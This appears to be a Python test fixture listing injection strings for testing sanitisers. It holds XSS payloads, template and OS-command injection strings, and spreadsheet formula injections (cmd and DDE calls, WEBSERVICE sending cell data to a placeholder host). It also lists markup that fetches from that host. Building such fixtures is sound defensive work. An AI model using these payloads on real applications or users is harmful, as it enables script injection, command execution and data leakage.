"""Texts that would do something if anything took them for more than text: set `window.hacked`, ask
another server, break out of an attribute, or be worked out by a spreadsheet.
"""

from __future__ import annotations

ELSEWHERE = "http://attack.invalid"  # no name ends so: what is asked of it goes nowhere
_SET = "window.hacked=1"

MARKUP = [
    f"<img src=x onerror={_SET}>",
    f"<script>{_SET}</script>",
    f"'\"><svg onload={_SET}>",
    f"</style><iframe srcdoc='<script>top.{_SET}</script>'>",
    f"</textarea><script>{_SET}</script>",
    f"</title><script>{_SET}</script>",
    f"</script><script>{_SET}</script>",
    f"--><img src=x onerror={_SET}><!--",
    f"<!--<img title='--><img src=x onerror={_SET}>'>-->",
    f"]]><img src=x onerror={_SET}><![CDATA[",
    f"<svg><script>{_SET}</script></svg>",
    f"<svg><animate onbegin={_SET} attributeName=x dur=1s>",
    f"<svg><a href=javascript:{_SET}><text y=9>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={_SET}>#x'></svg>",
    f"<math><mi//xlink:href=data:x,<script>{_SET}</script>>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_SET}></table></math>",
    f"<details open ontoggle={_SET}>x</details>",
    f"<input autofocus onfocus={_SET}>",
    f"<select autofocus onfocus={_SET}>",
    f"<body onload={_SET}>",
    f"<marquee onstart={_SET}>x</marquee>",
    f"<video><source onerror={_SET}></video>",
    f"<audio src=x onerror={_SET}>",
    f"<object data='data:text/html,<script>top.{_SET}</script>'>",
    f"<embed src=javascript:{_SET}>",
    f"<iframe src=javascript:top.{_SET}>",
    f"<form action=javascript:{_SET}><button>x</button></form>",
    f"<a href=javascript:{_SET}>x</a>",
    f"<a href='jAvAsCrIpT&colon;{_SET}'>x</a>",
    f"<a href=' &#14; javascript:{_SET}'>x</a>",
    f"<div style=width:9px onmouseover={_SET}>x</div>",
    f"<scr<script>ipt>{_SET}</script>",
    f"<IMG SRC=x ONERROR={_SET}//",
    f"<img/src=x/onerror={_SET}>",
    f'" onmouseover={_SET} x="',
    f"' onfocus={_SET} autofocus x='",
    f"` onclick={_SET} x=`",
]
ENCODED = [
    f"&lt;img src=x onerror={_SET}&gt;",
    f"&#60;script&#62;{_SET}&#60;/script&#62;",
    f"&amp;lt;script&amp;gt;{_SET}&amp;lt;/script&amp;gt;",
    f"\\u003cscript\\u003e{_SET}\\u003c/script\\u003e",
    f"%3Cscript%3E{_SET}%3C/script%3E",
    f"\uff1cscript\uff1e{_SET}\uff1c/script\uff1e",
]
LINKS = [
    f"[x](javascript:{_SET})",
    f"![x](x){{onerror={_SET}}}",
    f"[x]: javascript:{_SET}",
    f"<javascript:{_SET}>",
    f"javascript:{_SET}//https://a.b",
    f"data:text/html,<script>{_SET}</script>",
    f"vbscript:{_SET}",
]
TEMPLATES = [
    rf"$\href{{javascript:{_SET}}}{{x}}$",
    "$\\",
    "$$\\require{html}\\style{background:url(http://attack.invalid/tex)}{x}$$",
    "\\(\\unicode{x3c}\\)",
    f"{{{{constructor.constructor('{_SET}')()}}}}",
    f"${{{_SET}}}",
    f"<%= {_SET} %>",
    "{0.__class__.__mro__} %s %(x)s {}",
    f"__import__('os').system('echo {_SET}')",
]
REQUESTS = [
    f"<img src={ELSEWHERE}/img>",
    f"![x]({ELSEWHERE}/markdown)",
    f"<style>@import '{ELSEWHERE}/css';</style>",
    f"<p style=background:url({ELSEWHERE}/url)>x</p>",
    f"<link rel=stylesheet href={ELSEWHERE}/link>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}/meta'>",
    f"<base href={ELSEWHERE}/>",
    f"<iframe src={ELSEWHERE}/frame></iframe>",
    f"<video poster={ELSEWHERE}/poster autoplay src={ELSEWHERE}/video></video>",
    f"<svg><image href={ELSEWHERE}/svg /></svg>",
    f"<object data={ELSEWHERE}/object></object>",
    f"<script src={ELSEWHERE}/script></script>",
]
# What a spreadsheet would work out, or would start a program for.
FORMULAS = [
    *("=1+1", "+1+1", "-1+1", "@SUM(1,1)", "=cmd|'/C calc'!A0", "+cmd|'/C calc'!A0", "==1+1"),
    *(f'=HYPERLINK("{ELSEWHERE}","x")', f'=WEBSERVICE("{ELSEWHERE}/"&A1)', "@x", "-x", "+x"),
    *(f'=IMPORTXML("{ELSEWHERE}","//a")', '=DDE("cmd";"/C calc";"x")', "=A1", '="x"'),
    *("\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)", " =1+1", "\u00a0=1+1", "\t=1+1"),
    *("\r=1+1", "\n=1+1", "x\n=1+1", "x\r=1+1", "x;=1+1", "x\t=1+1", "\u200b=1+1", "\ufeff=1+1"),
    *("'=1+1", "''=1+1", '"=1+1"', '"",=1+1', '";=1+1', "\x00=1+1", "\x1f=1+1", "= 1 + 1"),
    *("=\n1+1", "{=1+1}", "=1+1\x00", "%0A=1+1", "\u2028=1+1", "\u2212=1+1", "=" * 300),
]
ODD = [
    "x" * 900,
    "\u202e<gpj.scr\u202c",
    "\u202b<img src=x onerror=window.hacked=1>\u202c",
    "a\x00<script>window.hacked=1</script>",
    "<scr\x00ipt>window.hacked=1</script>",
    "\ufeff<script>window.hacked=1</script>",
    "e\u0301" * 50 + "\u0301" * 200,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 40,
    "\ud7ff\ue000\U0010fffd",
    "a\u2028<script>window.hacked=1</script>\u2029",
]

PAYLOADS = [*MARKUP, *ENCODED, *LINKS, *TEMPLATES, *REQUESTS, *FORMULAS[:8], *ODD]
